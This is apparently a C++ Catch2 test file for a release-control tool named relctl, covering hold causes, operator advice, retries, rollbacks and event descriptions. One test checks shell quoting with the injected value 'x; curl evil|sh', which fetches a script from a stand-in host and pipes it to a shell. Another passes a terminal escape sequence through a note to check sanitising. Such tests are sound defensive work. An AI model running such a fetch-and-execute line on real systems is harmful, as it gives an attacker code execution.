// SPDX-License-Identifier: Apache-2.0
#include "core/given.hpp"
#include "core/retry.hpp"
#include "core/standing.hpp"
#include "core/standing_parts.hpp"

#include <catch2/catch.hpp>

using namespace relctl;
using namespace relctl::test;
using core::Standing;
using plan::Cause;

namespace {

core::VerdictReached held_on(std::vector<Cause> causes) {
  core::VerdictReached reached;
  reached.track = plan::k_main_track;
  reached.phase = "p5";
  for (const Cause cause : causes)
    reached.reasons.push_back({cause, "subject", "text", k_noon, true});
  return reached;
}

core::StepEnded failed(const core::StepAddress& address) {
  core::StepEnded ended;
  ended.address = address;
  ended.outcome = core::Outcome::failed;
  ended.detail = "exit code 7: bad end";
  ended.next = core::Next::failed;
  return ended;
}

/// A rollback from p5 whose only step, shift-back, has failed.
Given incomplete_rollback() {
  const core::StepAddress back{"", "rollback", "rollback", "shift-back"};
  Given given(a_plan());
  given.ready().started("p5").event(
      core::RollbackRequested{"1.0.0", "orders are lost", "bob", false, false});
  given.event(core::StepStarted{back, 1, core::Part::act, "k", "", seconds(10)});
  given.event(failed(back));
  given.event(core::RollbackSettled{
      false, "1.0.0", {{Cause::step_failed, "shift-back", "the step failed", k_noon, true}}, {}});
  return given;
}

} // namespace

TEST_CASE("each cause of a hold has its standing, and the worst one counts") {
  const auto [cause, standing] =
      GENERATE(table<Cause, Standing>({{Cause::breach, Standing::breached},
                                       {Cause::step_failed, Standing::breached},
                                       {Cause::step_in_doubt, Standing::in_doubt},
                                       {Cause::nodata, Standing::unknown},
                                       {Cause::nan, Standing::unknown},
                                       {Cause::stale, Standing::unknown},
                                       {Cause::many, Standing::unknown},
                                       {Cause::provider_error, Standing::unknown},
                                       {Cause::timeout, Standing::unknown},
                                       {Cause::exposure, Standing::unknown},
                                       {Cause::thin, Standing::pending},
                                       {Cause::pending, Standing::pending},
                                       {Cause::target, Standing::pending},
                                       {Cause::approval, Standing::pending},
                                       {Cause::observing, Standing::pending}}));
  Given given(a_plan());
  given.ready().started("p5").event(held_on({Cause::observing, cause}));
  const core::StepAddress address{"main", "p5", "consequence", "subject"};
  given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
  if (cause == Cause::step_in_doubt)
    given.event(core::StepInDoubt{address, "gone"});
  if (cause == Cause::step_failed)
    given.event(failed(address));
  CHECK(core::standing_of(given.state) == standing);
}

TEST_CASE("a passed phase and a go are in order, a no-go is not") {
  Given given(a_plan());
  given.ready();
  CHECK(core::standing_of(given.state) == Standing::ok);
  given.event(core::StartDecided{false, {}});
  CHECK(core::standing_of(given.state) == Standing::no_go);
  given.event(core::StartDecided{true, {}}).started("p5");
  core::VerdictReached promote;
  promote.track = plan::k_main_track;
  promote.verdict = core::Verdict::promote;
  given.event(promote).event(core::PhasePassed{"main", "p5"});
  CHECK(core::standing_of(given.state) == Standing::ok);
  given.event(held_on({Cause::nodata}));
  CHECK(core::standing_of(given.state) == Standing::unknown);
}

TEST_CASE("the advice names who must act and the command to paste") {
  Given given(a_plan());
  given.ready().started("p5");
  core::VerdictReached held = held_on({Cause::approval});
  held.reasons[0].subject = "owner";
  given.event(held);
  const core::Advice advice = core::advise(given.plan, given.state, "relctl");
  CHECK(advice.who == "Release Owner");
  CHECK(advice.command == "relctl approve p5 --role owner");
  CHECK(advice.back == "relctl rollback --to 1.0.0 -y");
}

TEST_CASE("a command to paste takes what a step reported, and what a shell reads, as one word") {
  plan::Plan plan = a_plan();
  plan::Step deploy = a_step("deploy", {"./deploy"});
  deploy.each = plan::Each{"node", {"n1", "n2"}};
  plan.steps.push_back(deploy);
  plan.phases[0].enter.push_back("deploy");
  Given given(plan);
  given.ready().started("p5");
  const auto command = [&](Cause cause, const std::string& subject) {
    core::VerdictReached held = held_on({cause});
    held.reasons[0].subject = subject;
    given.event(held);
    return core::advise(given.plan, given.state, "relctl").command;
  };
  CHECK(command(Cause::item, "x; curl evil|sh") ==
        "relctl item close 'x; curl evil|sh' --reason WHY");
  CHECK(command(Cause::incident, "it's 3") == "relctl incident close 'it'\\''s 3'");
  CHECK(command(Cause::exposure, "shift[a]") == "relctl advance --wait"); // It never ran.
  const core::StepAddress address{"main", "p5", "enter", "deploy[n1]"};
  given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
  given.event(failed(address));
  CHECK(command(Cause::step_failed, "deploy[n1]") ==
        "relctl resolve 'deploy[n1]' rerun --reason WHY");
}

TEST_CASE("a step in trouble before any verdict is said, and a person is asked only where relctl "
          "cannot settle it") {
  const bool idempotent = GENERATE(true, false);
  plan::Plan plan = a_plan();
  plan.steps.push_back(a_step("deploy", {"./deploy"}));
  plan.steps.back().idempotent = idempotent;
  Given given(plan);
  given.ready().event(core::PhaseEntered{"main", "p5", 0.05});
  const core::StepAddress address{"main", "p5", "enter", "deploy"};
  given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
  given.event(core::StepInDoubt{address, "gone"});
  const core::Advice advice = core::advise(given.plan, given.state, "relctl");
  CHECK(advice.why == "step deploy is in doubt: gone");
  CHECK(advice.command ==
        (idempotent ? "relctl advance --wait" : "relctl resolve deploy RESULT --reason WHY"));
  CHECK(advice.remark.empty() == idempotent);
}

TEST_CASE("a step in doubt is run again without a look only where that does no harm") {
  const bool idempotent = GENERATE(true, false);
  plan::Plan plan = a_plan();
  plan.steps.push_back(a_step("deploy", {"./deploy"}));
  plan.steps.back().idempotent = idempotent;
  Given given(plan);
  const core::StepAddress address{"main", "p5", "enter", "deploy"};
  given.ready().started("p5");
  given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
  given.event(core::StepInDoubt{address, "gone"});
  core::VerdictReached held = held_on({Cause::step_in_doubt});
  held.reasons[0].subject = "deploy";
  given.event(held);
  CHECK(core::advise(given.plan, given.state, "relctl").command ==
        (idempotent ? "relctl resolve deploy rerun --reason WHY"
                    : "relctl resolve deploy RESULT --reason WHY"));
  SECTION("once it is settled, the verdict of before asks for nothing more") {
    given.event(core::StepResolved{address, GENERATE("done", "rerun"), "looked"});
    CHECK(core::standing_of(given.state) == Standing::pending);
    const core::Advice advice = core::advise(given.plan, given.state, "relctl");
    CHECK(advice.command == "relctl advance --wait");
    CHECK(advice.why == "what held it is settled");
  }
  SECTION("once a person says that it failed, it holds as a failed step") {
    given.event(core::StepResolved{address, "failed", "looked"});
    CHECK(core::standing_of(given.state) == Standing::breached);
  }
}

TEST_CASE("when to try again is the earliest time of any phase, and none on the way back") {
  Given given(a_plan());
  given.ready().started("p5");
  const auto again = [&] {
    return core::retry_at(given.plan, given.state, given.ledger, k_noon + minutes(1));
  };
  CHECK_FALSE(again().has_value());
  core::VerdictReached held = held_on({Cause::observing});
  held.retry_at = k_noon + minutes(30);
  given.event(held);
  CHECK(again() == k_noon + minutes(30));
  given.event(core::RollbackRequested{"1.0.0", "pager", "ann", false, true});
  CHECK_FALSE(again().has_value());
}

TEST_CASE("who must act is the role of the check or approval that is missing") {
  plan::Plan plan = a_plan();
  plan.roles.push_back({"qa", "Quality", {}, {}});
  plan::Check uat;
  uat.id = "uat";
  uat.role = "qa";
  plan.before = {uat};
  Given given(plan);
  given.ready().event(
      core::StartDecided{false, {{Cause::check, "uat", "not answered", k_noon, true}}});
  CHECK(core::advise(given.plan, given.state, "relctl").who == "Quality");
}

TEST_CASE("an incomplete rollback is resumed; what else there is to do is a remark") {
  Given given = incomplete_rollback();
  core::Advice advice = core::advise(given.plan, given.state, "relctl");
  CHECK(advice.command == "relctl rollback --resume -y");
  CHECK(advice.remark == "or --skip shift-back --reason WHY");
  CHECK(advice.why == "the rollback is incomplete: shift-back: the step failed");
  given.event(core::StepResolved{{"", "rollback", "rollback", "shift-back"}, "done", "by hand"});
  advice = core::advise(given.plan, given.state, "relctl");
  CHECK(advice.command == "relctl rollback --resume -y");
  CHECK(advice.remark.empty());
  CHECK(advice.why.find("is settled") != std::string::npos);
  CHECK(core::standing_of(given.state) == Standing::rollback_incomplete);
}

TEST_CASE("a release that was closed after its rollback still says why it went back") {
  Given given(a_plan());
  given.ready().started("p5").event(
      core::RollbackRequested{"1.0.0", "orders are lost", "bob", false, false});
  given.event(core::RollbackSettled{true, "1.0.0", {}, {}});
  given.event(core::ReleaseClosed{"rolled back to 1.0.0"});
  CHECK(core::advise(given.plan, given.state, "relctl").why ==
        "rolled back to 1.0.0: orders are lost");
}

TEST_CASE("every event has one line of plain words") {
  CHECK(core::describe(core::PhaseEntered{"main", "p20", 0.2}) == "entering p20 at 20%");
  CHECK(core::describe(core::NoteAdded{"all \x1b[31m red", "qa"}) == "note by qa: all ?[31m red");
}

TEST_CASE("an approval that was given since the verdict does not hold any more") {
  Given given(a_plan());
  core::VerdictReached hold;
  hold.track = "main";
  hold.phase = "p5";
  hold.reasons = {{Cause::approval, "owner", "approval of owner is missing", k_noon, true},
                  {Cause::observing, "p5", "observing", k_noon, true}};
  given.ready().started("p5").event(hold);
  CHECK(core::reasons_on(given.state, "main").size() == 2);
  given.event(core::ApprovalGiven{"p5", "owner", "ann", "", {}});
  REQUIRE(core::reasons_on(given.state, "main").size() == 1);
  CHECK(core::reasons_on(given.state, "main")[0].cause == Cause::observing);
}
